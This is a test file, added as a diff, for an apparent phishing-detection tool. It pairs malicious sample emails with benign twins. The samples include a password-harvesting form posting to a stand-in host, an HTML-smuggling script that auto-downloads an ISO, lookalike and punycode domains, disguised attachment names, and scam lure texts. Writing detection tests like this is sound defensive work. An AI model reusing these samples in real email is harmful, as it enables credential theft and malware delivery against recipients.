@@ -1,0 +1,207 @@
+"""Every mail rule, both ways: it fires on a message built to show the trick, and is silent on its honest twin."""
+
+from __future__ import annotations
+
+import pytest
+
+from heistguard.findings import Severity
+from heistguard.mail.rules import RULE_MODULES, RULES
+from tests.mail.build import CHM, DMG, HTA, ISO, LNK, PASS, PDF, PE, SHELL, VBS, VHDX, context, mail, parsed, zipped
+
+MEETING = "Looking forward to our call on Thursday. Please join the meeting with the link below.\n"
+SMUGGLER = (
+    "<html><body><script>var b64 = '" + "QUJD" * 800 + "';"
+    "var bin = atob(b64); var bytes = new Uint8Array(bin.length);"
+    "for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }"
+    "var blob = new Blob([bytes], {type: 'application/octet-stream'});"
+    "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);"
+    "a.download = 'invoice.iso'; a.click();</script></body></html>"
+)
+
+# rule id -> (message that must fire it, honest message that must not)
+CASES: dict[str, tuple[bytes, bytes]] = {
+    "mail.auth-failure": (
+        mail(
+            headers=(
+                (
+                    "Authentication-Results",
+                    "mx.acme-capital.com; spf=fail smtp.mailfrom=partner.example.org; "
+                    "dkim=none; dmarc=fail (p=REJECT) header.from=partner.example.org",
+                ),
+            )
+        ),
+        mail(headers=(("Authentication-Results", PASS.format(d="partner.example.org")),)),
+    ),
+    "mail.arc-broken": (
+        mail(headers=(("ARC-Seal", "i=2; a=rsa-sha256; d=relay.example.net; s=arc; cv=fail; b=AAAA"),)),
+        mail(headers=(("ARC-Seal", "i=1; a=rsa-sha256; d=relay.example.net; s=arc; cv=none; b=AAAA"),)),
+    ),
+    "mail.reply-to-divert": (
+        mail(sender="Acme Capital <ir@acme-capital.com>", headers=(("Reply-To", "acme.ir.desk@gmail.com"),)),
+        mail(sender="Acme Capital <ir@acme-capital.com>", headers=(("Reply-To", "desk@acme-capital.com"),)),
+    ),
+    "mail.envelope-mismatch": (
+        mail(
+            sender="Kraken Support <support@kraken.com>",
+            headers=(
+                ("Return-Path", "<bounce@bulk-sender.example.net>"),
+                ("Authentication-Results", "mx.acme-capital.com; spf=pass smtp.mailfrom=bulk-sender.example.net"),
+            ),
+        ),
+        mail(
+            sender="Kraken Support <support@kraken.com>",
+            headers=(
+                ("Return-Path", "<bounce@bulk-sender.example.net>"),
+                ("Authentication-Results", PASS.format(d="kraken.com")),
+            ),
+        ),
+    ),
+    "mail.sender-mismatch": (
+        mail(sender="Jane Doe <jane@acme-capital.com>", headers=(("Sender", "agent@outsider.example.net"),)),
+        mail(sender="Jane Doe <jane@acme-capital.com>", headers=(("Sender", "assistant@acme-capital.com"),)),
+    ),
+    "mail.display-name-impersonation": (
+        mail(sender="Jane Doe <jane.doe.ceo@outlook-mail.example.net>"),
+        mail(sender="Jane Doe <jane@acme-capital.com>"),
+    ),
+    "mail.invalid-sender": (
+        mail(sender="Correios <contato@correios>"),
+        mail(sender="Correios <contato@correios.com.br>"),
+    ),
+    "mail.lookalike-domain": (
+        mail(sender="Ken <ken@acme-capita1.com>"),
+        mail(sender="Ken <ken@acme-capital.com>"),
+    ),
+    "mail.link-text-mismatch": (
+        mail(html='<p>Sign in at <a href="https://login.evil.example.net/b">https://www.binance.com/login</a></p>'),
+        mail(html='<p>Sign in at <a href="https://accounts.binance.com/login">https://www.binance.com/login</a></p>'),
+    ),
+    "mail.link-ip-literal": (
+        mail(text="Your document: http://203.0.113.77/doc/view.php\n"),
+        mail(text="Your document: https://docs.partner.example.org/view\n"),
+    ),
+    "mail.link-shortener": (
+        mail(text="Slides: https://bit.ly/3xYzAbc\n"),
+        mail(text="Slides: https://partner.example.org/slides/q4.pdf\n"),
+    ),
+    "mail.link-punycode": (
+        mail(text="Claim: https://xn--bnance-bwa.com/claim\n"),
+        mail(text="Claim: https://www.binance.com/en/activity\n"),
+    ),
+    "mail.credential-harvest": (
+        mail(html='<form action="https://collect.example.net/p.php"><input type="password" name="p"></form>'),
+        mail(html='<form action="https://www.example.org/search"><input type="text" name="q"></form>'),
+    ),
+    "mail.fake-meeting-link": (
+        mail(text=MEETING + "https://us05web-zoom.example.net/j/8812345?pwd=abc\n"),
+        mail(text=MEETING + "https://us05web.zoom.us/j/8812345?pwd=abc\n"),
+    ),
+    "mail.fake-cloud-drive": (
+        mail(
+            subject="Jane shared a document with you",
+            html='<p>Jane shared a document with you on OneDrive.</p><a href="https://view-doc.example.net/">Open</a>',
+        ),
+        mail(
+            subject="Jane shared a document with you",
+            html='<p>Jane shared a document with you on OneDrive.</p><a href="https://1drv.ms/w/s!Abc">Open</a>',
+        ),
+    ),
+    "mail.executable-attachment": (
+        mail(attachments=(("setup.zip", zipped({"setup.exe": PE})),)),
+        mail(attachments=(("report.zip", zipped({"report.pdf": PDF})),)),
+    ),
+    "mail.shortcut-attachment": (
+        mail(attachments=(("Job Description.pdf.lnk", LNK),)),
+        mail(attachments=(("Job Description.pdf", PDF),)),
+    ),
+    "mail.disk-image-attachment": (
+        mail(attachments=(("invoice.iso", ISO), ("disk.vhdx", VHDX), ("Meeting SDK.dmg", DMG))),
+        mail(attachments=(("invoice.pdf", PDF),)),
+    ),
+    "mail.script-attachment": (
+        mail(attachments=(("update.vbs", VBS), ("help.chm", CHM), ("viewer.hta", HTA))),
+        mail(attachments=(("notes.txt", b"Just notes: Dim the lights at 6.\n"),)),
+    ),
+    "mail.macos-app-attachment": (
+        mail(attachments=(("Pitch Deck.zip", zipped({"Pitch Deck.app/Contents/MacOS/Pitch Deck": SHELL})),)),
+        mail(attachments=(("Pitch Deck.zip", zipped({"Pitch Deck.pdf": PDF})),)),
+    ),
+    "mail.encrypted-archive": (
+        mail(
+            text="The assignment is attached. Password: Tokyo2025\n",
+            attachments=(("assignment.zip", zipped({"task.js": b"console.log(1)"}, password_flag=True)),),
+        ),
+        mail(
+            text="The assignment is attached.\n",
+            attachments=(("assignment.zip", zipped({"task.md": b"Write a parser."})),),
+        ),
+    ),
+    "mail.deceptive-attachment-name": (
+        mail(attachments=(("invoice\u202efdp.exe", PE), ("statement.pdf", PE))),
+        mail(attachments=(("statement.pdf", PDF),)),
+    ),
+    "mail.html-smuggling": (
+        mail(attachments=(("invoice.html", SMUGGLER.encode()),)),
+        mail(attachments=(("invoice.html", b"<html><body><p>Invoice 42: 1,980 JPY</p></body></html>"),)),
+    ),
+    "mail.lure-recruiter": (
+        mail(
+            subject="Job offer: Senior Solidity engineer",
+            text="I am a recruiter at a VC-backed DeFi firm. Your profile stands out; the salary is 250k.\n",
+            html='<p>Details: <a href="http://203.0.113.5/jd">job description</a></p>',
+        ),
+        mail(subject="Notes from Tuesday", text="Here are the notes from Tuesday.\n"),
+    ),
+    "mail.lure-coding-test": (
+        mail(
+            subject="Technical assessment",
+            text="Please clone the repo and run npm install, then fix the bug: https://github.com/dev-hire/test-app\n",
+        ),
+        mail(subject="Release notes", text="The release notes are at https://github.com/example/project/releases\n"),
+    ),
+    "mail.lure-investment": (
+        mail(
+            sender="Acme Capital <partner@acme-capital-ventures.example>",
+            text="We are a venture capital fund and see an investment opportunity in your seed round. "
+            "Please schedule a call with our partner.\n",
+        ),
+        mail(text="The quarterly board pack is attached.\n"),
+    ),
+    "mail.lure-urgent-wallet": (
+        mail(text="URGENT: your wallet will be suspended within 24 hours. Verify your recovery phrase now.\n"),
+        mail(text="Your monthly statement is ready in the app.\n"),
+    ),
+    "mail.macro-document": (b"", b""),  # built from a real document in test_attachments.py
+    "mail.dkim-invalid": (b"", b""),  # needs a signing key: test_authentication.py
+}
+ELSEWHERE = {"mail.macro-document", "mail.dkim-invalid"}
+
+
+def test_every_rule_has_a_case_both_ways() -> None:
+    assert {rule.id for rule in RULES} == set(CASES)
+
+
+@pytest.mark.parametrize("rule_id", sorted(set(CASES) - ELSEWHERE))
+def test_rule_fires_on_bad_and_is_silent_on_good(rule_id: str) -> None:
+    bad, good = CASES[rule_id]
+    module = next(m for m in RULE_MODULES if m.RULE.id == rule_id)
+    ctx = context()
+    fired = module.check(parsed(bad), ctx)
+    assert fired, f"{rule_id} did not fire on its bad sample"
+    assert all(f.rule_id == rule_id for f in fired)
+    assert all(f.evidence for f in fired if f.severity.rank >= Severity.LOW.rank)
+    assert module.check(parsed(good), ctx) == [], f"{rule_id} fired on its good sample"
+
+
+def test_rules_carry_attack_ids_and_rationale() -> None:
+    for rule in RULES:
+        assert rule.rationale and len(rule.rationale) > 60, rule.id
+        assert rule.attack, rule.id
+
+
+def test_brand_display_name_without_any_address_is_impersonation() -> None:
+    from heistguard.mail.rules import display_name_impersonation
+
+    raw = mail().replace(b"From: Bob Lee <bob@partner.example.org>", b"From: PayPal Service Team")
+    (finding,) = display_name_impersonation.check(parsed(raw), context())
+    assert "no sender address" in finding.title
